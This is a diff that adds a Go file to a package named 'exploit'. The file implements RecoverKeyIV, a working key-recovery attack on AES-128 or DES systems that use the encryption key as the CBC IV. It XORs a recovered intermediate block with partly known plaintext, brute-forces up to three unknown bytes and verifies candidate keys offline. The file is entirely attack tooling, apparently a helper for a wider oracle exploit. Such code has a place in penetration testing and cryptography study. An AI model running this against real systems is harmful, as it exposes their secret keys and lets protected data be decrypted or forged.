@@ -0,0 +1,89 @@
+package exploit
+
+import (
+	"bytes"
+	"crypto/aes"
+	"crypto/cipher"
+	"crypto/des"
+	"fmt"
+)
+
+// maximum number of unknown bytes of the first plaintext block, that are brute-forced by RecoverKeyIV
+const maxUnknownIVKeyBytes = 3
+
+// RecoverKeyIV recovers the key of targets, that use the key as IV (AES-128 or DES, by block length).
+// intermediate is the decryption of the first cipher block (as recovered with zero IV), plaintext of that block
+// XORed with it gives the key. Only prefix of the plaintext may be known: the rest (up to 3 bytes) is brute-forced
+// over printable characters and padding bytes, each candidate key is verified by decrypting the cipher block offline
+func RecoverKeyIV(block, intermediate, knownPrefix []byte) ([]byte, error) {
+	blockLen := len(block)
+	if blockLen != aes.BlockSize && blockLen != des.BlockSize {
+		return nil, fmt.Errorf("block length must be %d (AES-128) or %d (DES), got %d", aes.BlockSize, des.BlockSize, blockLen)
+	}
+	if len(intermediate) != blockLen {
+		return nil, fmt.Errorf("intermediate must be %d bytes long, got %d", blockLen, len(intermediate))
+	}
+	if len(knownPrefix) > blockLen {
+		knownPrefix = knownPrefix[:blockLen]
+	}
+	unknown := blockLen - len(knownPrefix)
+	if unknown > maxUnknownIVKeyBytes {
+		return nil, fmt.Errorf("at least %d bytes of the first plaintext block must be known, got %d", blockLen-maxUnknownIVKeyBytes, len(knownPrefix))
+	}
+
+	// printable characters, and padding bytes in case plaintext ends within the first block
+	var alphabet []byte
+	for b := 0x20; b < 0x7f; b++ {
+		alphabet = append(alphabet, byte(b))
+	}
+	for b := 1; b <= blockLen; b++ {
+		alphabet = append(alphabet, byte(b))
+	}
+
+	plain := make([]byte, blockLen)
+	copy(plain, knownPrefix)
+	key := make([]byte, blockLen)
+	decrypted := make([]byte, blockLen)
+
+	var try func(pos int) ([]byte, error)
+	try = func(pos int) ([]byte, error) {
+		if pos == blockLen {
+			for i := range key {
+				key[i] = intermediate[i] ^ plain[i]
+			}
+			c, err := newBlockCipher(key)
+			if err != nil {
+				return nil, err
+			}
+			c.Decrypt(decrypted, block)
+			if bytes.Equal(decrypted, intermediate) {
+				return append([]byte{}, key...), nil
+			}
+			return nil, nil
+		}
+
+		for _, b := range alphabet {
+			plain[pos] = b
+			if found, err := try(pos + 1); found != nil || err != nil {
+				return found, err
+			}
+		}
+		return nil, nil
+	}
+
+	found, err := try(len(knownPrefix))
+	if err != nil {
+		return nil, err
+	}
+	if found == nil {
+		return nil, fmt.Errorf("no key fits: IV is not the key, or known plaintext is wrong")
+	}
+	return found, nil
+}
+
+func newBlockCipher(key []byte) (cipher.Block, error) {
+	if len(key) == des.BlockSize {
+		return des.NewCipher(key)
+	}
+	return aes.NewCipher(key)
+}